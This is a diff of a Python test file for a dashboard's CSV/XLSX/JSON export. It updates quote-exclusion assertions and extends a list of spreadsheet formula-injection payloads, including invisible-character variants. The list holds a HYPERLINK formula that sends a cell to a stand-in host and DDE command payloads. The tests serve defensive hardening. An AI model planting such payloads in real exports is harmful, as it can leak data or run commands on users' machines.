@@ -13,6 +13,7 @@ from dashboard.comparison import build_catalog, compare
 from dashboard.export import EXPORT_COLUMNS, to_csv_bytes, to_json_bytes, to_xlsx_bytes
 from dashboard.filters import Filters
 from dashboard.formula import neutralise, starts_with_trigger
+from dashboard.quote_costs import quotes_left_out
 
 TODAY = dt.date(2026, 11, 25)
 
@@ -86,17 +87,17 @@ def test_xlsx_in_pounds_lists_quotes_and_notes_those_left_out(small_dataset):
     ]
     catalog = build_catalog(small_dataset)
     comparison = compare(catalog, Filters(market="US", horizon=5), quotes)
-    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(comparison, small_dataset, TODAY, quotes)))
+    left_out = quotes_left_out(quotes, "US", {"ha-filler": "Hyaluronic-acid filler"})
+    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(comparison, small_dataset, TODAY, left_out, quotes)))
     rows = [[c.value for c in r] for r in book["Quotes"].iter_rows()]
     assert rows[0][:4] == ["Clinic", "Treatment", "Price", "Currency"]
     assert rows[1][0] == "Clinic A" and rows[1][2] == 900 and rows[1][-1] == "included"
     assert rows[2][0] == "Clinic B" and rows[2][-1] == "left out: currency is not the market's"
     settings = {r[0].value: r[1].value for r in book["Settings"].iter_rows()}
-    assert settings["Your quotes left out"].startswith("1 of your quotes is in GBP, not the market's currency (USD)")
-    csv_rows = parse_csv(to_csv_bytes(comparison, small_dataset, TODAY, quotes))
-    assert any(r and r[0] == "Your quotes left out" for r in csv_rows)
+    assert settings["Your quotes left out"] == "1 not in USD, the currency of this market: Clinic B (Hyaluronic-acid filler, 700.00 GBP)"
+    assert book["Comparison"]["A1"].value == "Option"  # the note is on Settings, the table still starts in row 1
     uk = compare(catalog, Filters(market="UK", horizon=5), quotes)
-    uk_book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(uk, small_dataset, TODAY, quotes)))
+    uk_book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(uk, small_dataset, TODAY)))
     cell = next(r[8] for r in uk_book["Comparison"].iter_rows(min_row=2) if r[8].value is not None)
     assert cell.number_format == '"£"#,##0'
 
@@ -116,6 +117,8 @@ def test_json_rows_match_the_csv_rows(small_dataset):
 
 PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
             " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "{=1+1}", "==== Sale ====",
+            # issue 14, kind 7: invisible format characters (category Cf) before the formula
+            "\u2060=1+1", "\u200d=1+1", "\u00ad=1+1", "\u2060\u200d \u00ad@SUM(1,1)", "\U000e0001+1+1", "\u3000=1+1",
             '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
 
 
